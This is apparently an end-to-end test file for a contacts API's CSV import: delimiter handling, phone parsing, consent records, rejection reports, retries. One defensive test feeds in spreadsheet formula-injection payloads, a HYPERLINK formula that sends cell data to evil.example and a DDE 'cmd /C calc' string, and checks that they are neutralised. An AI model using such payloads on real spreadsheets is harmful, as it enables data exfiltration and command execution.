import { join } from 'node:path';
import { readFileSync } from 'node:fs';
import { randomUUID } from 'node:crypto';
import { ImportSweeper } from '../src/imports/import-sweeper';
import { ImportsRepository } from '../src/imports/imports.repository';
import { REJECTION_PAGE_BYTES } from '../src/imports/imports.service';
import { eventually, TEST_API_KEY, TestEnv } from './support/app';
import { client } from './support/http';
import { csvForm, importFinished, queueImport } from './support/imports';

/**
 * CSV audience import end to end: multipart upload over HTTP to the API, processed by the worker
 * (with worker threads) against real PostgreSQL and Redis.
 */
describe('CSV import', () => {
  let env: TestEnv;
  let api: ReturnType<typeof client>;

  beforeAll(async () => {
    env = await TestEnv.create({ IMPORT_THREADS: '2', IMPORT_MAX_BYTES: String(256 * 1024), IMPORT_MAX_LINE_BYTES: '2048' });
    await env.startApi();
    await env.startWorker();
    api = client(env.url);
  });
  afterAll(() => env.close());

  const form = csvForm;

  async function upload(csv: string | Buffer, fields: Record<string, string> = {}) {
    const res = await api.post('/v1/contacts/imports', form(csv, fields));
    expect(res.status).toBe(202);
    expect(res.body.status).toBe('queued');
    return finished(res.body.id);
  }

  const finished = (id: string) => importFinished(api, id);

  const contactByPhone = async (phone: string) => {
    const res = await api.get(`/v1/contacts?phone=${encodeURIComponent(phone)}`);
    return res.body.data[0];
  };

  const count = async (sql: string, params: unknown[] = []) => Number((await env.db.query(sql, params))[0].count);

  describe("Excel's sep= first line (case csv/01)", () => {
    it('reads the delimiter from it and the header from the next line', async () => {
      const file = readFileSync(join(__dirname, 'fixtures', 'cases', 'csv', '01-excel-sep-line.csv'));
      const done = await upload(file, { defaultCountry: 'ID' });
      expect(done).toMatchObject({ status: 'completed', inserted: 2, rejected: 0, rowsRead: 2 });
      expect(await contactByPhone('+6281233000001')).toMatchObject({ name: 'Sari Contoh', consent: { marketing: { status: 'opted_in' } } });
      expect(await contactByPhone('+6281233000002')).toMatchObject({ name: 'Rudi Contoh', consent: { marketing: { status: 'opted_in' } } });
    });

    it('works with phoneColumn, with a comma or tab file, and refuses a delimiter it does not read', async () => {
      expect(await upload('sep=,\nnomor,name\n0812-3300-0011,A\n', { defaultCountry: 'ID', phoneColumn: 'nomor' })).toMatchObject({ inserted: 1 });
      expect(await upload('sep=\t\nphone\tname\n0812-3300-0012\tB\n', { defaultCountry: 'ID' })).toMatchObject({ inserted: 1 });
      const refused = await api.post('/v1/contacts/imports', form('sep=|\nphone|name\n0812-3300-0013|C\n'));
      expect(refused.status).toBe(400);
      expect(refused.body).toMatchObject({ code: 'IMPORT_CSV_MALFORMED' });
    });
  });

  describe('phones a spreadsheet turned into numbers (case csv/02)', () => {
    it('keeps the exact digits of a .0 cell, restores a lost leading zero, and refuses scientific notation: no other number is created', async () => {
      const file = readFileSync(join(__dirname, 'fixtures', 'cases', 'csv', '02-spreadsheet-decimal-phones.csv'));
      const before = await count(`SELECT count(*) FROM contacts`);
      const done = await upload(file, { defaultCountry: 'ID' });
      expect(done).toMatchObject({ status: 'completed', inserted: 2, rejected: 1 });
      expect(await count(`SELECT count(*) FROM contacts`)).toBe(before + 2);
      expect(await contactByPhone('+6281234400013')).toMatchObject({ name: 'Wulan Contoh', consent: { marketing: { status: 'opted_in' } } });
      expect(await contactByPhone('+6281234400011')).toMatchObject({ name: 'Bayu Contoh' });
      expect(await contactByPhone('+62812344000130')).toBeUndefined();
      const report = (await api.get(`/v1/contacts/imports/${done.id}/rejected.csv`)).body as string;
      expect(report).toContain('4,phone_digits_lost,');
      expect(report).toMatch(/digits were lost/);
    });

    it('refuses a decimal phone other than .0 instead of dropping the point', async () => {
      const done = await upload('phone,name\n6281234400021.5,Dian\n0812.3440.0022,Eka\n', { defaultCountry: 'ID' });
      expect(done).toMatchObject({ status: 'completed', inserted: 0, rejected: 2 });
      expect(await contactByPhone('+62812344000215')).toBeUndefined();
    });
  });

  // Semicolon-delimited, with a BOM and CRLF line endings, a quoted field holding the delimiter,
  // another holding a newline, a blank line, an all-empty line, a duplicate (merged: the later
  // non-empty values win), bad rows of every kind, and consent cells that cannot be read (the
  // contact imports without that consent, with a warning). Comments give each record's line.
  const AUDIENCE = [
    '\uFEFFNama;Phone;Kota;opt_in;opt_in_at;opt_in_source;opt_in_text;tags', // 1
    'Ana;0812-1111-0001;Jakarta;ya;2025-01-02T03:04:05Z;form-a;Saya setuju promo Toko;vip', // 2
    'Budi;+62 812 1111 0002;"Bandung; Jabar";tidak;;;;', // 3
    'Citra;abc;X;yes;;;;', // 4: phone_not_a_number
    '', // 5: blank
    'Dewi;0812-1111-0004;"Solo\nKota";maybe;;;;', // 6-7: warning opt_in_invalid
    'Eka;0812-1111-0005;Solo', // 8: column_count_mismatch
    ';;;;;;;', // 9: all empty
    'Ana Lagi;0812 1111 0001;Jakarta Selatan;ya;2025-01-02T03:04:05Z;form-a;Saya setuju promo Toko;vip,new', // 10: merged into 2
    'Fajar;12345;Medan;;;;;', // 11: phone_too_short
    'Gita;0812-1111-0007;Medan;yes;2099-01-01T00:00:00Z;;;', // 12: warning opt_in_at_in_future
    'Hadi;0812-1111-0008;Medan;yes;01/02/2025;;;', // 13: warning opt_in_at_needs_date_format
    'Indah;0812-1111-0009;;;;;;;', // 14: a trailing delimiter: accepted
    'Joko;+1 202 555 0143;"Washington, ""DC""";yes;;;;', // 15: an undated opt-in
  ].join('\r\n') + '\r\n';

  let firstId: string;

  it('imports good rows, rejects bad ones with their line and reason, records consent, and warns of unreadable consent cells', async () => {
    const result = await upload(AUDIENCE, { defaultCountry: 'ID', tags: 'csv, 2026' });
    firstId = result.id;
    expect(result).toMatchObject({
      status: 'completed',
      delimiter: ';',
      phoneColumn: 'Phone',
      defaultCountry: 'ID',
      tags: ['csv', '2026'],
      optInScope: 'marketing',
      rowsRead: 11,
      inserted: 7,
      updated: 0,
      unchanged: 0,
      rejected: 3,
      duplicates: 1,
      consentEvents: 3,
      warnings: 3,
      error: null,
      fileName: 'audience.csv',
      fileBytes: Buffer.byteLength(AUDIENCE),
    });

    const ana = await contactByPhone('+6281211110001');
    expect(ana).toMatchObject({
      name: 'Ana Lagi',
      country: 'ID',
      attributes: { kota: 'Jakarta Selatan' },
      tags: ['csv', '2026', 'vip', 'new'],
      consent: { marketing: { status: 'opted_in', since: '2025-01-02T03:04:05.000Z' }, utility: { status: null } },
    });
    const budi = await contactByPhone('+6281211110002');
    expect(budi).toMatchObject({ attributes: { kota: 'Bandung; Jabar' }, consent: { marketing: { status: 'opted_out' } } });
    expect((await contactByPhone('+6281211110009')).consent.marketing.status).toBeNull();
    const joko = await contactByPhone('+12025550143');
    expect(joko).toMatchObject({ country: 'US', attributes: { kota: 'Washington, "DC"' }, consent: { marketing: { status: 'opted_in', since: null } } });
    expect(await contactByPhone('+6281211110005')).toBeUndefined();
    // Unreadable consent cells: the contacts are there, without that consent.
    for (const warned of ['+6281211110004', '+6281211110007', '+6281211110008']) {
      expect(await contactByPhone(warned)).toMatchObject({ consent: { marketing: { status: null } } });
    }

    const ledger = (await api.get(`/v1/contacts/${ana.id}/consents`)).body.data;
    expect(ledger).toEqual([
      expect.objectContaining({
        kind: 'opt_in',
        scope: 'marketing',
        source: 'csv_import',
        occurredAt: '2025-01-02T03:04:05.000Z',
        evidenceRef: 'form-a',
        wording: 'Saya setuju promo Toko',
        importId: firstId,
        importLine: 2, // line 10 states the same again: recorded once
        apiKeyId: expect.any(String),
      }),
    ]);
    const [budiEvent] = (await api.get(`/v1/contacts/${budi.id}/consents`)).body.data;
    expect(budiEvent).toMatchObject({ kind: 'opt_out', importLine: 3 });
    expect(Date.now() - Date.parse(budiEvent.occurredAt)).toBeLessThan(60_000); // undated opt-out: when we learned it
    expect((await api.get(`/v1/contacts/${joko.id}/consents`)).body.data[0].occurredAt).toBeNull();

    expect(await count(`SELECT count(*) FROM contact_import_chunks`)).toBe(0); // the file is gone
  });

  it('reports the rejected rows as CSV, re-uploadable after the first three columns', async () => {
    const res = await api.get(`/v1/contacts/imports/${firstId}/rejected.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toContain(`import-${firstId}-rejected.csv`);
    expect(res.body.split('\r\n')).toEqual([
      'line,reason,message,Nama,Phone,Kota,opt_in,opt_in_at,opt_in_source,opt_in_text,tags',
      '4,phone_not_a_number,the phone is not a number,Citra,abc,X,yes,,,,',
      '8,column_count_mismatch,the row has a different number of columns than the header,Eka,0812-1111-0005,Solo',
      '11,phone_too_short,phone number too short for its country,Fajar,12345,Medan,,,,,',
      '',
    ]);
  });

  it('lists the rows imported with a warning in warnings.csv, with the reason that names the option to give', async () => {
    const res = await api.get(`/v1/contacts/imports/${firstId}/warnings.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toContain(`import-${firstId}-warnings.csv`);
    const lines = (res.body as string).split('\r\n');
    expect(lines[0]).toBe('line,reason,message,Nama,Phone,Kota,opt_in,opt_in_at,opt_in_source,opt_in_text,tags');
    expect(lines.slice(1).map((l) => l.split(',').slice(0, 2).join(','))).toEqual([
      '6,opt_in_invalid',
      '12,opt_in_at_in_future',
      '13,opt_in_at_needs_date_format',
      '',
    ]);
    expect(lines[1]).toMatch(/,Dewi,0812-1111-0004,"Solo\nKota",maybe,,,,$/);
    expect(lines[3]).toMatch(/dateFormat/);
    expect(lines[3]).toMatch(/,Hadi,0812-1111-0008,Medan,yes,01\/02\/2025,,,$/);
  });

  it('creates no new contact and no new consent event when the same file comes again', async () => {
    const contacts = await count(`SELECT count(*) FROM contacts`);
    const events = await count(`SELECT count(*) FROM consent_events`);
    const again = await upload(AUDIENCE, { defaultCountry: 'ID', tags: 'csv,2026' });
    expect(again).toMatchObject({ inserted: 0, updated: 0, unchanged: 7, rejected: 3, duplicates: 1, consentEvents: 0, warnings: 3 });
    expect(await count(`SELECT count(*) FROM contacts`)).toBe(contacts);
    expect(await count(`SELECT count(*) FROM consent_events`)).toBe(events);
  });

  it('never lets an undated or older opt-in undo an opt-out; a newer dated one reinstates', async () => {
    const { body: kiki } = await api.post('/v1/contacts', { phone: '+6281211110100', name: 'Kiki' });
    await api.post(`/v1/contacts/${kiki.id}/opt-out`, { scope: 'all', occurredAt: '2025-03-01T00:00:00Z' });
    const header = 'phone,name,opt_in,opt_in_at,opt_in_text\n';

    const utc = { timeZone: 'UTC' };
    const undated = await upload(`${header}+6281211110100,Kiki,yes,,from the shop list\n`);
    expect(undated).toMatchObject({ updated: 0, unchanged: 1, consentEvents: 1 });
    expect((await contactByPhone('+6281211110100')).consent.marketing).toEqual({ status: 'opted_out', since: '2025-03-01T00:00:00.000Z' });

    const older = await upload(`${header}+6281211110100,Kiki,yes,2025-02-01,signup\n`, utc);
    expect(older.consentEvents).toBe(1);
    expect((await contactByPhone('+6281211110100')).consent.marketing.status).toBe('opted_out');

    const newer = await upload(`${header}+6281211110100,Kiki Rahma,yes,2025-04-01,signup again\n`, { optInScope: 'all', ...utc });
    expect(newer).toMatchObject({ updated: 1, consentEvents: 1 });
    expect((await contactByPhone('+6281211110100')).consent).toEqual({
      marketing: { status: 'opted_in', since: '2025-04-01T00:00:00.000Z' },
      utility: { status: 'opted_in', since: '2025-04-01T00:00:00.000Z' },
    });
    const ledger = (await api.get(`/v1/contacts/${kiki.id}/consents`)).body.data;
    expect(ledger.map((e: { source: string; kind: string }) => `${e.source}:${e.kind}`)).toEqual([
      'api:opt_out',
      'csv_import:opt_in',
      'csv_import:opt_in',
      'csv_import:opt_in',
    ]);
  });

  it('brings back a deleted contact with its consent, counted as inserted', async () => {
    const { body } = await api.post('/v1/contacts', { phone: '+6281211110200', name: 'Lina' });
    await api.post(`/v1/contacts/${body.id}/opt-out`, {});
    await api.delete(`/v1/contacts/${body.id}`);
    const result = await upload('phone,name,city\n0812-1111-0200,Lina Baru,Bogor\n', { defaultCountry: 'ID' });
    expect(result.inserted).toBe(1);
    expect(await contactByPhone('+6281211110200')).toMatchObject({
      id: body.id,
      name: 'Lina Baru',
      attributes: { city: 'Bogor' },
      consent: { marketing: { status: 'opted_out' } },
    });
  });

  it('names the phone column when asked, and merges attributes into existing contacts', async () => {
    const result = await upload('Kontak,segment\n+6281211110001,gold\n', { phoneColumn: 'Kontak' });
    expect(result).toMatchObject({ phoneColumn: 'Kontak', updated: 1 });
    expect((await contactByPhone('+6281211110001')).attributes).toEqual({ kota: 'Jakarta Selatan', segment: 'gold' });
  });

  it('fails a file with a quote never closed, naming the line, and merges nothing', async () => {
    const contacts = await count(`SELECT count(*) FROM contacts`);
    const res = await api.post('/v1/contacts/imports', form('phone,name\n+6281211110300,Ok\n+6281211110301,"Never closed\n+6281211110302,x\n'));
    const result = await finished(res.body.id);
    expect(result).toMatchObject({ status: 'failed', inserted: 0, error: { code: 'IMPORT_CSV_MALFORMED', line: 3 } });
    expect(result.error.message).toMatch(/Quote Not Closed/i);
    expect(await count(`SELECT count(*) FROM contacts`)).toBe(contacts);
    expect(await count(`SELECT count(*) FROM contact_import_chunks WHERE import_id = $1`, [res.body.id])).toBe(0);
    expect((await api.get(`/v1/contacts/imports/${res.body.id}/rejected.csv`)).body.code).toBe('IMPORT_NOT_COMPLETED');
  });

  describe('refuses at upload, with nothing stored', () => {
    const refusals: Array<[string, () => FormData | string, number, string]> = [
      ['a file without a phone column', () => form('name,email\nAna,a@x\n'), 400, 'IMPORT_NO_PHONE_COLUMN'],
      ['columns that collide', () => form('phone,City,city\n1,2,3\n'), 400, 'IMPORT_DUPLICATE_COLUMN'],
      ['an empty file', () => form(''), 400, 'IMPORT_FILE_EMPTY'],
      ['a header without rows', () => form('phone,name\r\n'), 400, 'IMPORT_NO_ROWS'],
      ['binary content', () => form(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00, 0x0a])), 400, 'IMPORT_FILE_NOT_TEXT'],
      ['text that is not UTF-8', () => form(Buffer.from('phone,name\n+6281211110400,Jos\xe9\n', 'latin1')), 400, 'IMPORT_FILE_NOT_UTF8'],
      ['a line of several kilobytes', () => form(`phone,note\n+6281211110401,${'x'.repeat(5000)}\n`), 400, 'IMPORT_LINE_TOO_LONG'],
      ['a file over the size limit', () => form(`phone\n${'+6281211110402\n'.repeat(20_000)}`), 413, 'IMPORT_FILE_TOO_LARGE'],
      ['an unknown form field', () => form('phone\n1\n', { colour: 'red' }), 400, 'VALIDATION_FAILED'],
      ['an unknown country', () => form('phone\n1\n', { defaultCountry: 'XX' }), 400, 'VALIDATION_FAILED'],
      ['a bad consent scope', () => form('phone\n1\n', { optInScope: 'spam' }), 400, 'VALIDATION_FAILED'],
      ['a form without a file', () => {
        const data = new FormData();
        data.append('defaultCountry', 'ID');
        return data;
      }, 400, 'IMPORT_FILE_MISSING'],
      ['a body that is not multipart', () => 'phone\n1\n', 415, 'IMPORT_NOT_MULTIPART'],
    ];

    it.each(refusals)('%s', async (_, body, status, code) => {
      const imports = await count(`SELECT count(*) FROM contact_imports`);
      const payload = body();
      const res =
        typeof payload === 'string'
          ? await api.post('/v1/contacts/imports', payload, { 'content-type': 'text/csv' })
          : await api.post('/v1/contacts/imports', payload);
      expect({ status: res.status, code: res.body.code }).toEqual({ status, code });
      expect(res.body).toMatchObject({ statusCode: status, message: expect.any(String) });
      expect(await count(`SELECT count(*) FROM contact_imports`)).toBe(imports);
      expect(await count(`SELECT count(*) FROM contact_import_chunks`)).toBe(0);
    });
  });

  it('lists imports newest first, in pages, and 404s an unknown one', async () => {
    const first = await api.get('/v1/contacts/imports?limit=2');
    expect(first.body.data).toHaveLength(2);
    const second = await api.get(`/v1/contacts/imports?limit=2&cursor=${first.body.nextCursor}`);
    expect(second.body.data[0].createdAt <= first.body.data[1].createdAt).toBe(true);
    expect(new Set([...first.body.data, ...second.body.data].map((i: { id: string }) => i.id)).size).toBe(4);
    expect((await api.get('/v1/contacts/imports/00000000-0000-4000-8000-000000000000')).body.code).toBe('IMPORT_NOT_FOUND');
    expect((await api.get('/v1/contacts/imports/nope')).body.code).toBe('IMPORT_NOT_FOUND');
  });

  it('finds and runs an import whose job never reached Redis', async () => {
    // As if the API had saved the upload while Redis was down.
    const id = '11111111-2222-4333-8444-555555555555';
    await env.db.transaction(async (tx) => {
      await tx.query(
        `INSERT INTO contact_imports (id, status, file_bytes, file_sha256, delimiter, header, phone_column, opt_in_scope, created_at)
         VALUES ($1, 'queued', 24, 'x', ',', '{phone}', 'phone', 'marketing', now() - interval '5 minutes')`,
        [id],
      );
      await tx.query(`INSERT INTO contact_import_chunks (import_id, seq, data) VALUES ($1, 0, $2)`, [id, Buffer.from('phone\n+6281211110500\n')]);
    });
    expect(await env.get(ImportSweeper).sweep()).toBe(1);
    expect(await finished(id)).toMatchObject({ status: 'completed', inserted: 1 });
    expect(await env.get(ImportSweeper).sweep()).toBe(0);
  });
});

describe('CSV import without worker threads', () => {
  let env: TestEnv;

  beforeAll(async () => {
    env = await TestEnv.create({ IMPORT_THREADS: '0' });
    await env.startApi();
    await env.startWorker();
  });
  afterAll(() => env.close());

  it('gives the same result inline', async () => {
    const api = client(env.url);
    const data = new FormData();
    data.append('defaultCountry', 'ID');
    data.append('file', new Blob(['phone\ttier\n0812-1111-0001\tgold\nnope\tx\n0812-1111-0001\tsilver\n']), 'a.tsv');
    const res = await api.post('/v1/contacts/imports', data);
    const done = await eventually(async () => {
      const r = await api.get(`/v1/contacts/imports/${res.body.id}`);
      return r.body.status === 'completed' ? r.body : undefined;
    });
    expect(done).toMatchObject({ delimiter: '\t', inserted: 1, rejected: 1, duplicates: 1 });
    expect((await api.get('/v1/contacts?phone=%2B6281211110001')).body.data[0].attributes).toEqual({ tier: 'silver' });
  });
});

describe('CSV import: reports and failures', () => {
  let env: TestEnv;
  let api: ReturnType<typeof client>;

  beforeAll(async () => {
    env = await TestEnv.create({ IMPORT_THREADS: '0' });
    await env.startApi();
    await env.startWorker();
    api = client(env.url);
  });
  afterAll(() => env.close());

  const count = async (sql: string, params: unknown[] = []) => Number((await env.db.query(sql, params))[0].count);

  const finished = (id: string, timeoutMs?: number) => importFinished(api, id, timeoutMs);
  const upload = (csv: string) => queueImport(api, csv);

  it('neutralises cells a spreadsheet would run as formulas in rejected.csv, the header included', async () => {
    const csv = [
      'phone,=cmd|calc,note',
      'abc,=HYPERLINK("http://evil.example/?"&A1;"click"),@SUM(1+1)',
      "xyz,+cmd|' /C calc'!A0,-2+3",
      "nope,\ttabbed,'=already quoted",
      'bad,plain,ok',
    ].join('\n') + '\n';
    const id = await upload(csv);
    expect(await finished(id)).toMatchObject({ status: 'completed', rejected: 4 });
    const res = await api.get(`/v1/contacts/imports/${id}/rejected.csv`);
    expect(res.body.split('\r\n')).toEqual([
      "line,reason,message,phone,'=cmd|calc,note",
      `2,phone_not_a_number,the phone is not a number,abc,"'=HYPERLINK(""http://evil.example/?""&A1;""click"")",'@SUM(1+1)`,
      "3,phone_not_a_number,the phone is not a number,xyz,'+cmd|' /C calc'!A0,'-2+3",
      "4,phone_not_a_number,the phone is not a number,nope,'\ttabbed,''=already quoted",
      '5,phone_not_a_number,the phone is not a number,bad,plain,ok',
      '',
    ]);
  });

  it('a rejected row can be fixed in rejected.csv and uploaded again, its marked phone included', async () => {
    const long = 'x'.repeat(65);
    const id = await upload(`phone,opt_in,tags\n+6281299990001,yes,${long}\n`);
    expect(await finished(id)).toMatchObject({ status: 'completed', rejected: 1 });
    const report = (await api.get(`/v1/contacts/imports/${id}/rejected.csv`)).body as string;
    const [header, row] = report.split('\r\n');
    expect(row).toBe(`2,tag_too_long,a tag is longer than 64 characters,'+6281299990001,yes,${long}`);
    // The person fixes the cell and uploads the report again as it is: its report columns are not data.
    const fixed = [header, row.replace(long, 'vip')].join('\r\n') + '\r\n';
    const again = await upload(fixed);
    expect(await finished(again)).toMatchObject({ status: 'completed', inserted: 1, rejected: 0 });
    const [contact] = (await api.get('/v1/contacts?phone=%2B6281299990001')).body.data;
    expect(contact).toMatchObject({ attributes: {}, tags: ['vip'], consent: { marketing: { status: 'opted_in' } } });
  });

  it('streams a large rejection report exactly, reading it in pages bounded in bytes', async () => {
    // A completed import with 120 rejected rows of about 60 KiB each (7 MB): a few rows per page.
    const id = randomUUID();
    const rows = 120;
    await env.db.query(
      `INSERT INTO contact_imports (id, status, file_bytes, file_sha256, delimiter, header, phone_column, opt_in_scope, rejected)
       VALUES ($1, 'completed', 0, 'x', ',', '{phone,a,b}', 'phone', 'marketing', $2)`,
      [id, rows],
    );
    await env.db.query(
      `INSERT INTO contact_import_rejections (import_id, line, reason, fields)
       SELECT $1, g, 'phone_invalid', ARRAY[$2 || g, repeat(chr(97 + g % 26), 30000), repeat('z', 30000)] FROM generate_series(2, $3::int + 1) g`,
      [id, 'bad-', rows],
    );
    const expected = ['line,reason,message,phone,a,b'];
    for (let g = 2; g <= rows + 1; g++) {
      expected.push(`${g},phone_invalid,not a valid phone number in its country,bad-${g},${String.fromCharCode(97 + (g % 26)).repeat(30000)},${'z'.repeat(30000)}`);
    }
    const scansBefore = await indexScans();
    const res = await fetch(`${env.url}/v1/contacts/imports/${id}/rejected.csv`, { headers: { authorization: `Bearer ${TEST_API_KEY}` } });
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text.length).toBe(expected.join('\r\n').length + 2);
    expect(text === expected.join('\r\n') + '\r\n').toBe(true);

    // The pages the report is read in: none over the byte budget by more than its last row.
    const repo = env.get(ImportsRepository);
    let after = 0;
    const sizes: number[] = [];
    for (;;) {
      const page = await repo.reportPage('rejections', id, { line: after, reason: '' }, 5000, REJECTION_PAGE_BYTES);
      if (page.length === 0) break;
      const bytes = page.map((r) => r.fields.join(',').length);
      expect(bytes.slice(0, -1).reduce((a, b) => a + b, 0)).toBeLessThan(REJECTION_PAGE_BYTES);
      sizes.push(page.length);
      after = page[page.length - 1].line;
    }
    expect(sizes.reduce((a, b) => a + b, 0)).toBe(rows);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(Math.ceil(REJECTION_PAGE_BYTES / 60_000) + 1);
    // And the download read them so too: several index scans of the rejections, not one or two.
    // (PostgreSQL publishes a session's statistics within about ten seconds.)
    await eventually(async () => ((await indexScans()) - scansBefore >= 6 ? true : undefined), 20_000, 'the download to have read several pages');
  }, 60_000);

  async function indexScans(): Promise<number> {
    const [row] = await env.db.query(`SELECT coalesce(idx_scan, 0)::int AS n FROM pg_stat_user_tables WHERE relname = 'contact_import_rejections'`);
    return row.n;
  }

  it('merges nothing when the merge itself fails part way, retries from a clean state, and fails in the end', async () => {
    // Consent events of this file cannot be recorded: the merge fails after inserting its contacts.
    await env.db.query(`
      CREATE FUNCTION refuse_exploding_consent() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN
        IF NEW.wording = 'explode' THEN RAISE EXCEPTION 'consent ledger unavailable'; END IF;
        RETURN NEW;
      END $$`);
    await env.db.query(`CREATE TRIGGER refuse_exploding_consent BEFORE INSERT ON consent_events FOR EACH ROW EXECUTE FUNCTION refuse_exploding_consent()`);
    try {
      const contacts = await count(`SELECT count(*) FROM contacts`);
      const events = await count(`SELECT count(*) FROM consent_events`);
      const lines = ['phone,name,opt_in,opt_in_text'];
      for (let i = 0; i < 500; i++) lines.push(`0812${String(77_000_000 + i).padStart(8, '0')},Boom ${i},yes,explode`);
      lines.push('not-a-phone,Bad,yes,explode');
      const id = await upload(lines.join('\n') + '\n');

      // Between attempts: given back to the queue, nothing merged, the file kept for the retry.
      const between = await eventually(async () => {
        const [row] = await env.db.query(`SELECT status, attempts FROM contact_imports WHERE id = $1`, [id]);
        return row.status === 'queued' && row.attempts >= 1 ? row : undefined;
      }, 30_000, 'the first attempt to fail');
      expect(between.status).toBe('queued');
      expect(await count(`SELECT count(*) FROM contacts`)).toBe(contacts);
      expect(await count(`SELECT count(*) FROM consent_events`)).toBe(events);
      expect(await count(`SELECT count(*) FROM contact_import_rejections WHERE import_id = $1`, [id])).toBe(0);
      expect(await count(`SELECT count(*) FROM contact_import_chunks WHERE import_id = $1`, [id])).toBe(1);

      // After the last attempt: failed with a reason, still nothing merged, the file removed.
      const result = await finished(id, 60_000);
      expect(result).toMatchObject({ status: 'failed', inserted: 0, rejected: 0, consentEvents: 0, error: { code: 'IMPORT_INTERNAL_ERROR' } });
      expect((await env.db.query(`SELECT attempts FROM contact_imports WHERE id = $1`, [id]))[0].attempts).toBe(3);
      expect(await count(`SELECT count(*) FROM contacts`)).toBe(contacts);
      expect(await count(`SELECT count(*) FROM consent_events`)).toBe(events);
      expect(await count(`SELECT count(*) FROM contact_import_rejections WHERE import_id = $1`, [id])).toBe(0);
      expect(await count(`SELECT count(*) FROM contact_import_chunks WHERE import_id = $1`, [id])).toBe(0);
    } finally {
      await env.db.query(`DROP TRIGGER refuse_exploding_consent ON consent_events`);
      await env.db.query(`DROP FUNCTION refuse_exploding_consent()`);
    }
  }, 90_000);
});
